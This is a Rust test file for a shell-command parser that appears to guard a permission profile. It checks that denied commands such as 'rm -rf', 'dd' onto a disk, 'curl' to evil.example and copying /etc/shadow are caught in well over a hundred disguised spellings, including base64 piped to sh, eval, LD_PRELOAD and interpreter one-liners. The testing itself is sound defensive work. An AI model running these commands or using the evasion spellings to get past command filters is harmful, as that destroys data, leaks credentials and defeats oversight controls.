//! Spellings of commands: none may pass for another one.

use super::{Line, read};

/// Commands that a profile denies: a program and its arguments.
const DENIED: [(&str, &str); 20] = [
    ("git", "push origin main"),
    ("git", "reset --hard HEAD"),
    ("rm", "-rf /srv/data"),
    ("curl", "https://evil.example/x"),
    ("wget", "https://evil.example/x"),
    ("chmod", "777 /etc/passwd"),
    ("chown", "root /srv/app"),
    ("dd", "if=/dev/zero of=/dev/sda"),
    ("mkfs", "/dev/sda1"),
    ("shutdown", "now"),
    ("kill", "-9 1"),
    ("docker", "run alpine"),
    ("npm", "publish"),
    ("cargo", "publish"),
    ("kubectl", "delete pod a"),
    ("terraform", "destroy"),
    ("mv", "/srv/app /tmp/x"),
    ("cp", "/etc/shadow /tmp/x"),
    ("systemctl", "stop ssh"),
    ("psql", "-f drop.sql"),
];

/// Returns spellings of a command. Each runs it, or may run it.
fn spellings(program: &str, arguments: &str) -> Vec<String> {
    let whole = format!("{program} {arguments}");
    let (first, rest) = program.split_at(1);
    let hex: String = program.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
    let octal: String = program.bytes().map(|byte| format!("\\{byte:03o}")).collect();
    let quoted: Vec<String> = arguments.split(' ').map(|word| format!("'{word}'")).collect();
    let escaped: Vec<String> =
        arguments.split(' ').map(|word| format!("\"{}\"\"{}\"", &word[..1], &word[1..])).collect();
    let (quoted, escaped) = (quoted.join(" "), escaped.join(" "));
    let base64 = "cm0gLXJmIC9zcnYvZGF0YQ==";
    let places = [
        // Quoting.
        format!("'{program}' {arguments}"),
        format!("\"{program}\" {quoted}"),
        format!("{first}\"\"{rest} {escaped}"),
        format!("{first}''{rest} {arguments}"),
        format!("\\{program} {arguments}"),
        format!("{first}\\{rest} {quoted}"),
        format!("$'{hex}' {arguments}"),
        format!("$'{octal}' {arguments}"),
        format!("{first}\\\n{rest} {arguments}"),
        format!("{program} \\\n  {arguments}"),
        format!("  {program}\t{arguments}  # and a comment"),
        // Expansion.
        format!("x={program}; $x {arguments}"),
        format!("x={program}; ${{x}} {arguments}"),
        format!("x={rest}; {first}$x {arguments}"),
        format!("x='{whole}'; $x"),
        format!("${{x:-{program}}} {arguments}"),
        format!("{{{program},{arguments}}}"),
        format!("{first}{{{rest},}} {arguments}"),
        format!("/usr/bin/{first}* {arguments}"),
        format!("/usr/bin/{first}?{} {arguments}", &rest[1..]),
        format!("set -- {whole}; \"$@\""),
        format!("a=({whole}); \"${{a[@]}}\""),
        format!("echo ${{x:-$({whole})}}"),
        format!("x={program} && eval \"$x {arguments}\""),
        format!("y=x; x={program}; ${{!y}} {arguments}"),
        // Substitution.
        format!("echo $({whole})"),
        format!("echo \"$({whole})\""),
        format!("echo `{whole}`"),
        format!("$(echo {program}) {arguments}"),
        format!("`echo {program}` {arguments}"),
        format!("x=$({whole})"),
        format!("cat <({whole})"),
        format!("echo a > >({whole})"),
        format!("echo $(echo $({whole}))"),
        format!("[[ -n $({whole}) ]]"),
        format!("test -n \"$({whole})\""),
        format!("echo $(( $({whole}) ))"),
        format!("case $({whole}) in a) ls;; esac"),
        format!("for i in $({whole}); do ls; done"),
        format!("cat <<END\n$({whole})\nEND"),
        format!("cat <<< \"$({whole})\""),
        format!("ls > \"$({whole})\""),
        // Chaining.
        format!("true && {whole}"),
        format!("false || {whole}"),
        format!("ls; {whole}"),
        format!("ls\n{whole}"),
        format!("ls & {whole} &"),
        format!("ls | {whole}"),
        format!("{whole} | cat"),
        format!("({whole})"),
        format!("{{ {whole}; }}"),
        format!("! {whole}"),
        format!("if true; then {whole}; fi"),
        format!("if {whole}; then ls; fi"),
        format!("while {whole}; do ls; done"),
        format!("for i in 1; do {whole}; done"),
        format!("until false; do {whole}; done"),
        format!("case a in a) {whole};; esac"),
        format!("f() {{ {whole}; }}; f"),
        format!("function f {{ {whole}; }}; f"),
        format!("ls() {{ {whole}; }}; ls"),
        format!("ls > /dev/null 2>&1; {whole} 2> /dev/null"),
        format!("< /dev/null {whole}"),
        format!("time {whole}"),
        format!("coproc {whole}"),
        // Programs that run others.
        format!("sh -c '{whole}'"),
        format!("bash -lc \"{whole}\""),
        format!("bash -c 'sh -c \"{whole}\"'"),
        format!("sh -c \"$(echo {whole})\""),
        format!("/bin/sh -c '{whole}'"),
        format!("env {whole}"),
        format!("env -i {whole}"),
        format!("/usr/bin/env {whole}"),
        format!("env -S '{whole}'"),
        format!("sudo {whole}"),
        format!("sudo -u root -- {whole}"),
        format!("nohup {whole} &"),
        format!("nice -n 5 {whole}"),
        format!("timeout 5 {whole}"),
        format!("timeout -s KILL 5 nohup {whole}"),
        format!("command {whole}"),
        format!("exec {whole}"),
        format!("builtin command {whole}"),
        format!("stdbuf -oL {whole}"),
        format!("setsid {whole}"),
        format!("/usr/bin/time -v {whole}"),
        format!("eval {whole}"),
        format!("eval '{whole}'"),
        format!("trap '{whole}' EXIT"),
        format!("xargs {whole}"),
        format!("echo {arguments} | xargs {program}"),
        format!("echo '{whole}' | xargs -I % sh -c %"),
        format!("find . -maxdepth 0 -exec {whole} \\;"),
        format!("find . -maxdepth 0 -exec sh -c '{whole}' \\;"),
        format!("ssh localhost {whole}"),
        format!("su -c '{whole}'"),
        format!("watch {whole}"),
        format!("parallel ::: '{whole}'"),
        format!("busybox {whole}"),
        format!("script -c '{whole}' x"),
        format!("flock x {whole}"),
        format!("git -c alias.z='!{whole}' z"),
        format!("git submodule foreach '{whole}'"),
        format!("git rebase -x '{whole}' main"),
        format!("awk 'BEGIN{{system(\"{whole}\")}}'"),
        format!("sed 's/a/{program}/e' x"),
        format!("tar cf x y --checkpoint=1 --checkpoint-action=exec='{whole}'"),
        format!("make SHELL='{whole}'"),
        format!("vim -c '!{whole}' x"),
        format!("rsync -e '{whole}' a b:"),
        // Other languages.
        format!("python3 -c 'import os; os.system(\"{whole}\")'"),
        format!("python3.12 -c 'import os; os.system(\"{whole}\")'"),
        format!("perl -e 'system(\"{whole}\")'"),
        format!("ruby -e '`{whole}`'"),
        format!("node -e 'require(\"child_process\").execSync(\"{whole}\")'"),
        format!("php -r 'system(\"{whole}\");'"),
        // Input.
        format!("echo '{whole}' | sh"),
        format!("echo '{whole}' | bash -s"),
        format!("printf '%s' '{whole}' | /bin/bash"),
        format!("sh <<END\n{whole}\nEND"),
        format!("bash <<'END'\n{whole}\nEND"),
        format!("sh <<< '{whole}'"),
        format!("bash <(echo '{whole}')"),
        format!("source <(echo '{whole}')"),
        format!(". /dev/stdin <<< '{whole}'"),
        format!("echo {base64} | base64 -d | sh"),
        format!("bash -c \"$(echo {base64} | base64 -d)\""),
        format!("eval $(printf '{hex}') {arguments}"),
        format!("$(printf '{octal}') {arguments}"),
        format!("echo '{whole}' | python3"),
        format!("python3 - <<< 'import os'"),
        // Names.
        format!("alias q='{whole}'; q"),
        format!("alias ls={program}; ls {arguments}"),
        format!("hash -p /usr/bin/{program} ls; ls {arguments}"),
        format!("PATH=/tmp ls; PATH=/tmp/x {whole}"),
        format!("LD_PRELOAD=/tmp/x.so ls; {whole}"),
        format!("/usr/bin/{whole}"),
        format!("/usr/bin/../bin/./{whole}"),
        format!("//usr///bin/{whole}"),
        format!("../../usr/bin/{whole}"),
        format!("cd /usr/bin && ./{whole}"),
        format!("(cd /; usr/bin/{whole})"),
    ];
    places.to_vec()
}

fn is_caught(line: &Line, program: &str, arguments: &str) -> bool {
    let is_it = |argv: &[String]| argv.join(" ") == arguments;
    !line.doubts.is_empty() || line.commands.iter().any(|one| one.program == program && is_it(&one.argv))
}

#[test]
fn no_spelling_of_a_denied_command_passes() {
    let (mut missed, mut all, mut exact) = (Vec::new(), 0, 0);
    for (program, arguments) in DENIED {
        for spelling in spellings(program, arguments) {
            let line = read(&spelling, "/work/app", Some("/home/anna"));
            all += 1;
            exact += usize::from(line.doubts.is_empty());
            if !is_caught(&line, program, arguments) {
                missed.push(format!("{spelling}\n  {line:?}"));
            }
        }
    }
    println!("{all} spellings, {exact} of them read exactly");
    assert!(all >= 300);
    assert!(missed.is_empty(), "{} of {all}:\n{}", missed.len(), missed.join("\n"));
}

#[test]
fn files_of_redirections_are_known_by_their_paths() {
    let spellings = [
        "echo x > /etc/passwd",
        "echo x >> /etc/passwd",
        "echo x >| /etc/passwd",
        "echo x &> /etc/passwd",
        "echo x >& /etc/passwd",
        "echo x 1<> /etc/passwd",
        "> /etc/passwd",
        ">/etc/passwd echo x",
        "echo x > '/etc'/pass\"wd\"",
        "echo x > /etc/../etc/./passwd",
        "echo x > ../../etc/passwd",
        "cd /etc && echo x > passwd",
        "cd /; cd etc; echo x > passwd",
        "(cd /etc; echo x > passwd)",
        "{ echo x; } > /etc/passwd",
        "(echo x) > /etc/passwd",
        "for i in 1; do echo x; done > /etc/passwd",
        "cat > /etc/passwd <<END\nx\nEND",
        "echo x > $'/etc/pass\\x77d'",
        "sh -c 'echo x > /etc/passwd'",
        "if true; then echo x; fi > /etc/passwd",
        "exec > /etc/passwd",
        "x > /etc/passwd | cat",
        "[[ -n a ]] > /etc/passwd",
    ];
    for spelling in spellings {
        let line = read(spelling, "/work/app", None);
        assert!(!line.doubts.is_empty() || line.writes.contains("/etc/passwd"), "{spelling}: {line:?}");
    }
    for unknown in ["echo x > $f", "echo x > \"$(echo f)\"", "echo x > *", "echo x > ~anna/x", "cd $d && echo x > f"] {
        assert!(!read(unknown, "/work/app", None).doubts.is_empty(), "{unknown}");
    }
}

#[test]
fn ordinary_commands_are_read_exactly() {
    let lines: Vec<&str> = include_str!("../../../../tests/hook/ordinary.txt").lines().collect();
    assert!(lines.len() >= 300);
    let is_doubted = |line: &&&str| !read(line, "/work/app", Some("/home/anna")).doubts.is_empty();
    let doubted: Vec<&&str> = lines.iter().filter(is_doubted).collect();
    println!("{} of {} are asked about: {doubted:#?}", doubted.len(), lines.len());
    assert!(doubted.len() * 20 <= lines.len(), "{doubted:#?}");
}

#[test]
fn any_text_is_read_in_time() {
    let texts = [
        "(".repeat(24),
        "(".repeat(2000),
        "$(".repeat(24),
        "((".repeat(12) + "a" + &"))".repeat(12),
        "`".repeat(1001),
        "{ ".repeat(20),
        "if ".repeat(500),
        "'".repeat(999),
        "<<a ".repeat(100),
        "a|".repeat(3000),
        "\\".repeat(999),
        "[[ ".repeat(300),
        "x".repeat(100_000),
        "\0\u{202e}\u{feff}".to_owned(),
    ];
    for text in &texts {
        let begin = std::time::Instant::now();
        let _ = read(text, "/", None);
        assert!(begin.elapsed().as_secs() < 3, "{}", &text[..text.len().min(20)]);
    }
}
